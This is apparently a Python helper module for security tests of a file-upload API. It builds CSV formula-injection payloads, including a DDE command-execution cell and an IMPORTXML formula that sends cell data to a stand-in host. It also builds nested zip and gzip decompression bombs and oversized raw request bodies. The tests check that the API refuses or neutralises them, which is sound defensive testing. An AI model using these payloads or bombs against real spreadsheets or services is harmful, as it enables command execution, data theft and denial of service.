"""What the hostile-upload suites (``test_hostile_uploads_*.py``) share: the client, the files.

:class:`Uploads` sends files to the producers' API as fresh users and checks each answer the
README's way (refused with its status and a JSON ``detail``, nothing stored; or accepted and
processed with counts that add up); :class:`Memory` watches the API's peak while it does so;
the builders make the files, the raw requests and the archive bombs; :data:`TALLY` counts every
upload of the run and every server error, for the figures and the suites' last check.

The limits are those of ``producers_api`` (OWNER_ENV: 1,000,000 bytes, 20,000 rows).
"""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import json
import re
import select
import socket
import struct
import time
import uuid
import zipfile
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import httpx
import openpyxl
import pypdf

from domain.csv_import import CsvRejected, precheck_csv
from tests.fixtures_workers import auth
from tests.support import rss_kb

MAX_BYTES = 1_000_000  # OWNER_ENV, the producers' API and worker
MAX_ROWS = 20_000
HEADER = b"period,statement,line_item,amount,currency\n"
ROW = b"2026-01,income,revenue,1.00,USD\n"
# The rows of the files whose reports are read: they make every metric, and two of them test
# the number and sign paths (a negative amount, a line item starting with "-1").
GOOD_ROWS = [
    ("2026-01", "income", "revenue", "1000.00", "USD"),
    ("2026-01", "income", "cogs", "400.00", "USD"),
    ("2026-01", "income", "opex", "300.00", "USD"),
    ("2026-02", "income", "revenue", "1100.00", "USD"),
    ("2026-02", "income", "cogs", "420.00", "USD"),
    ("2026-02", "income", "opex", "-310.00", "USD"),
    ("2026-02", "balance", "-1 adjustment", "5.00", "USD"),
]
# As stored and reported: the line item's name is normalised ("-1 adjustment": "1_adjustment").
GOOD_STORED = [*GOOD_ROWS[:-1], ("2026-02", "balance", "1_adjustment", "5.00", "USD")]
# Cells a spreadsheet would evaluate (or that hide one behind a tab, a CR or spaces).
FORMULAS = [
    '=HYPERLINK("http://x","click")',
    "+SUM(1)",
    "-2+3",
    "@cmd",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "-cmd",
    '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
]
# What must never be found in a report built from a file that held the formulas above.
FORMULA_MARKERS = ["HYPERLINK", "SUM(1)", "2+3", "@cmd", "cmd|", "calc", "1+1", "IMPORTXML"]
COLUMNS = ("period", "statement", "line_item", "amount", "currency")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER_RE = re.compile(r"-?\d+(?:\.\d+)?", re.ASCII)
# A peak the API may reach above its resident size while it refuses or checks one upload
# (the limit is 1 MB; the suites' bodies are up to 64 MB, or inflate to 1 GiB).
MEMORY_SLACK_KB = 16 * 1024


# -- what was sent, for the figures ----------------------------------------------------------


@dataclass
class Tally:
    """Every upload of the run and the server errors among the answers, over all the suite's
    modules; ``seconds`` runs from the start of the first module to the end of the last."""

    cases: int = 0
    server_errors: list[str] = field(default_factory=list)
    started: float = 0.0
    seconds: float = 0.0

    def saw(self, status: int, what: str) -> None:
        self.cases += 1
        if status >= 500:
            self.server_errors.append(f"{status} for {what}")


TALLY = Tally()


# -- the client ------------------------------------------------------------------------------


class Uploads:
    """Uploads to the producers' API as fresh users, every answer counted."""

    def __init__(self, base: str, env: dict[str, str], pid: int) -> None:
        self.base, self.env, self.pid = base, env, pid
        self.http = httpx.Client(base_url=base, timeout=60)

    def user(self) -> str:
        return f"hu{uuid.uuid4().hex[:10]}"

    def headers(self, user: str) -> dict[str, str]:
        return auth(self.env, user)

    def post(
        self, user: str, data: bytes, name: str = "q.csv", ctype: str = "text/csv"
    ) -> httpx.Response:
        response = self.http.post(
            "/api/v1/files", headers=self.headers(user), files={"file": (name, data, ctype)}
        )
        TALLY.saw(response.status_code, f"{name!r}: {data[:80]!r}")
        return response

    def send(self, user: str, content: Any, headers: dict[str, str]) -> httpx.Response:
        """A hand-made request body (any content httpx takes, an iterator for chunked)."""
        response = self.http.post(
            "/api/v1/files", headers={**self.headers(user), **headers}, content=content
        )
        TALLY.saw(response.status_code, f"hand-made body with {headers}")
        return response

    def listed(self, user: str) -> list[dict[str, Any]]:
        response = self.http.get("/api/v1/files", headers=self.headers(user))
        assert response.status_code == 200, response.text
        files: list[dict[str, Any]] = response.json()["files"]
        return files

    def refused(self, user: str, response: httpx.Response, status: int, words: str) -> str:
        """The README's status, a JSON detail naming the problem, nothing stored."""
        assert response.status_code == status, (response.status_code, response.text[:500])
        assert response.headers["content-type"].startswith("application/json"), response.text
        detail = response.json()["detail"]
        assert isinstance(detail, str) and words.lower() in detail.lower(), detail
        assert len(detail) < 500, f"a detail of {len(detail)} characters"
        assert self.listed(user) == []
        return detail

    def accepted(self, user: str, response: httpx.Response) -> int:
        assert response.status_code == 202, response.text[:500]
        file_id: int = response.json()["file_id"]
        assert [f["id"] for f in self.listed(user)] == [file_id]
        return file_id

    def finished(self, user: str, file_id: int, timeout: float = 60.0) -> dict[str, Any]:
        """The file once the worker is done with it, its counts adding up."""
        deadline = time.monotonic() + timeout
        while True:
            response = self.http.get(f"/api/v1/files/{file_id}", headers=self.headers(user))
            assert response.status_code == 200, response.text
            body: dict[str, Any] = response.json()
            if body["status"] in ("processed", "failed"):
                break
            assert time.monotonic() < deadline, f"file {file_id} still {body['status']}"
            time.sleep(0.05)
        assert body["rows_ok"] + body["rows_bad"] == body["rows_total"], body
        assert (body["error"] is None) == (body["status"] == "processed"), body
        return body

    def notifications(self, user: str, kind: str) -> list[dict[str, Any]]:
        response = self.http.get(
            "/api/v1/notifications", params={"limit": 100}, headers=self.headers(user)
        )
        assert response.status_code == 200, response.text
        return [n for n in response.json()["notifications"] if n["type"] == kind]

    def reports(self, user: str, file_id: int, formats: Iterable[str]) -> dict[str, bytes]:
        """Ask for one report per format at once, then download each when ready."""
        ids = {}
        for fmt in formats:
            response = self.http.post(
                f"/api/v1/files/{file_id}/reports",
                json={"format": fmt},
                headers=self.headers(user),
            )
            assert response.status_code == 202, response.text
            ids[fmt] = response.json()["report_id"]
        out: dict[str, bytes] = {}
        deadline = time.monotonic() + 60
        for fmt, report_id in ids.items():
            while True:
                got = self.http.get(f"/api/v1/reports/{report_id}", headers=self.headers(user))
                status = got.json()["status"]
                if status in ("ready", "failed"):
                    break
                assert time.monotonic() < deadline, f"report {report_id} still {status}"
                time.sleep(0.05)
            assert status == "ready", got.text
            download = self.http.get(
                f"/api/v1/reports/{report_id}/download", headers=self.headers(user)
            )
            assert download.status_code == 200, download.text
            disposition = download.headers["content-disposition"]
            assert re.fullmatch(r'attachment; filename="[A-Za-z0-9][A-Za-z0-9_.-]*"', disposition)
            out[fmt] = download.content
        return out

    def healthy(self) -> None:
        assert self.http.get("/healthz").status_code == 200


# -- memory of the API process ---------------------------------------------------------------


def _status_kb(pid: int, key: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(key + ":"):
            return int(line.split()[1])
    return 0


class Memory:
    """The API's resident size before, and its peak during, what the block does.

    The peak is the kernel's high-water mark, reset first (``/proc/<pid>/clear_refs``); where
    that is not allowed, the resident size afterwards stands in for it.
    """

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.before = self.peak = 0

    def __enter__(self) -> Memory:
        try:
            Path(f"/proc/{self.pid}/clear_refs").write_text("5")
            self._peak_key = "VmHWM"
        except OSError:
            self._peak_key = "VmRSS"
        self.before = rss_kb(self.pid)
        return self

    def __exit__(self, *exc: object) -> None:
        self.peak = _status_kb(self.pid, self._peak_key)

    @property
    def growth_kb(self) -> int:
        return self.peak - self.before


# -- building files --------------------------------------------------------------------------


def csv_line(cells: Iterable[str]) -> str:
    """One record as the csv module writes it, without its line end (a cell holding a CR or
    LF is quoted: the writer quotes the characters of its line terminator)."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(cells)
    return out.getvalue()[:-2]


def csv_bytes(rows: Iterable[Iterable[str]], header: bytes = HEADER) -> bytes:
    return header + "".join(csv_line(row) + "\n" for row in rows).encode()


def physical_lines(text: str) -> int:
    """Lines as the importer numbers them (LF, CRLF and a lone CR each end one)."""
    return len(re.findall(r"\r\n|\r|\n", text))


def readme_formula(cell: str) -> bool:
    """The README's rule: after leading spaces, ``=``, ``+``, ``@`` (or a tab or CR), or ``-``
    not followed by a digit."""
    text = cell.lstrip(" ")
    return text[:1] in ("=", "+", "@", "\t", "\r") or (text[:1] == "-" and not text[1:2].isdigit())


def assert_safe_cell(cell: str, where: str) -> None:
    """No text a spreadsheet evaluates: numbers pass, escaped text starts with ``'``."""
    if cell.startswith(FORMULA_START) and not NUMBER_RE.fullmatch(cell):
        raise AssertionError(f"{where}: the cell {cell!r} would be read as a formula")


def check_csv_report(content: bytes) -> list[list[str]]:
    assert content.startswith(codecs.BOM_UTF8)
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    for number, row in enumerate(rows, start=1):
        for cell in row:
            assert_safe_cell(cell, f"CSV report, row {number}")
    return rows


def data_section(rows: list[list[str]]) -> list[tuple[str, ...]]:
    start = rows.index(list(COLUMNS)) + 1
    return [tuple(row) for row in rows[start:]]


def check_xlsx_report(content: bytes) -> tuple[list[tuple[Any, ...]], str]:
    """The Data sheet's rows, and the text of every cell of every sheet."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, f"a formula element in {name}"
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate}"
                assert cell.data_type != "f", f"{where} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith("="), where
                    assert_safe_cell(cell.value, where)
                texts.append(str(cell.value))
    data = [tuple(r) for r in book["Data"].iter_rows(values_only=True)]
    assert data[0] == COLUMNS
    return data[1:], "\n".join(texts)


def pdf_text(content: bytes) -> str:
    return "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(content)).pages)


def local_refusal(data: bytes) -> str | None:
    """What the importer itself says of the file, at the producers' limits."""
    try:
        precheck_csv(data, max_bytes=MAX_BYTES, max_rows=MAX_ROWS)
    except CsvRejected as exc:
        return exc.reason
    return None


def injection_file() -> tuple[bytes, dict[int, tuple[str, str]]]:
    """Good rows, then every formula in every column (quoted as the csv module does), then a
    few written by hand without quoting; and the line of each refused row."""
    text = HEADER.decode() + "".join(",".join(row) + "\n" for row in GOOD_ROWS)
    bad: dict[int, tuple[str, str]] = {}
    for column in range(len(COLUMNS)):
        for formula in FORMULAS:
            row = list(GOOD_ROWS[0])
            row[column] = formula
            bad[physical_lines(text) + 1] = (COLUMNS[column], formula)
            text += csv_line(row) + "\n"
    for line in (
        '2026-01,income,=HYPERLINK("http://x","click"),1.00,USD',
        "=cmd|' /C calc'!A0,income,revenue,1.00,USD",
        "2026-01,income,revenue,+SUM(1),USD",
        "2026-01,income,revenue,1.00,@cmd",
    ):
        bad[physical_lines(text) + 1] = ("", line)
        text += line + "\n"
    return text.encode(), bad


# -- hand-made requests ----------------------------------------------------------------------


@dataclass
class RawAnswer:
    status: int
    headers: dict[str, str]
    body: bytes
    sent: int
    seconds: float

    def json(self) -> Any:
        return json.loads(self.body)


def _read_answer(sock: socket.socket) -> tuple[int, dict[str, str], bytes]:
    sock.setblocking(True)
    sock.settimeout(15)
    buffer = b""
    while b"\r\n\r\n" not in buffer:
        chunk = sock.recv(65536)
        assert chunk, f"connection closed before an answer: {buffer!r}"
        buffer += chunk
    head, _, rest = buffer.partition(b"\r\n\r\n")
    status_line, *lines = head.decode("latin-1").split("\r\n")
    headers = {k.strip().lower(): v.strip() for k, _, v in (ln.partition(":") for ln in lines)}
    length = int(headers.get("content-length", "0"))
    while len(rest) < length:
        chunk = sock.recv(65536)
        if not chunk:
            break
        rest += chunk
    return int(status_line.split()[1]), headers, rest[:length]


def raw_post(url: str, head: bytes, body: Iterable[bytes], timeout: float = 30.0) -> RawAnswer:
    """Send ``head`` then ``body`` piece by piece, stopping as soon as the server answers: how
    much of the body was sent before the answer, and how long the answer took."""
    parsed = urlparse(url)
    started = time.monotonic()
    sent = 0
    with socket.create_connection((parsed.hostname, parsed.port), timeout=timeout) as sock:
        sock.sendall(head)
        sock.setblocking(False)
        answered = False
        for piece in body:
            view = memoryview(piece)
            while view and not answered:
                left = timeout - (time.monotonic() - started)
                assert left > 0, f"no answer after {sent} bytes"
                readable, writable, _ = select.select([sock], [sock], [], left)
                if readable:
                    answered = True
                elif writable:
                    try:
                        n = sock.send(view)
                    except (BrokenPipeError, ConnectionResetError):
                        answered = True
                        break
                    sent += n
                    view = view[n:]
            if answered:
                break
        status, headers, answer = _read_answer(sock)
    TALLY.saw(status, f"raw body of {sent} bytes sent")
    return RawAnswer(status, headers, answer, sent, time.monotonic() - started)


BOUNDARY = b"hostile-boundary-7f3a"
PART_HEAD = (
    b"--" + BOUNDARY + b"\r\n"
    b'Content-Disposition: form-data; name="file"; filename="millions.csv"\r\n'
    b"Content-Type: text/csv\r\n\r\n"
)
PART_TAIL = b"\r\n--" + BOUNDARY + b"--\r\n"


def request_head(env: dict[str, str], user: str, framing: bytes) -> bytes:
    token = auth(env, user)["Authorization"].encode()
    return (
        b"POST /api/v1/files HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: " + token + b"\r\n"
        b"Content-Type: multipart/form-data; boundary=" + BOUNDARY + b"\r\n" + framing + b"\r\n"
    )


def rows_body(rows: int) -> tuple[int, Iterator[bytes]]:
    """A multipart body of ``rows`` short rows, produced 64 KB at a time, and its length."""
    block = ROW * 2048
    full, rest = divmod(rows, 2048)

    def pieces() -> Iterator[bytes]:
        yield PART_HEAD + HEADER
        for _ in range(full):
            yield block
        yield ROW * rest + PART_TAIL

    return len(PART_HEAD + HEADER) + len(block) * full + len(ROW) * rest + len(PART_TAIL), pieces()


# -- archive bombs ---------------------------------------------------------------------------

GIB = 1 << 30


@dataclass(frozen=True)
class Bombs:
    zip_gib: bytes  # a zip of 1 GiB of zeros (about 1 MB)
    zip_nested: bytes  # a zip holding that zip (a few KB)
    gzip_gib: bytes  # a gzip of 1 GiB of zeros (about 1 MB)
    gzip_nested: bytes  # a gzip of that gzip (a few KB)


def build_bombs() -> Bombs:
    """The four bombs, from one pass over 1 GiB of zeros."""
    zeros = bytes(1 << 20)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("zeros.csv", "w", force_zip64=True) as member,
    ):
        for _ in range(GIB // len(zeros)):
            member.write(zeros)
    zip_gib = out.getvalue()
    # The gzip reuses the zip's deflate stream: a second pass over 1 GiB would take seconds.
    with zipfile.ZipFile(io.BytesIO(zip_gib)) as archive:
        info = archive.getinfo("zeros.csv")
    name_len, extra_len = struct.unpack_from("<HH", zip_gib, info.header_offset + 26)
    start = info.header_offset + 30 + name_len + extra_len
    deflated = zip_gib[start : start + info.compress_size]
    gzip_gib = (
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
        + deflated
        + struct.pack("<II", info.CRC, info.file_size & 0xFFFFFFFF)
    )
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("inner.zip", zip_gib)
    return Bombs(zip_gib, nested.getvalue(), gzip_gib, gzip.compress(gzip_gib, 9))
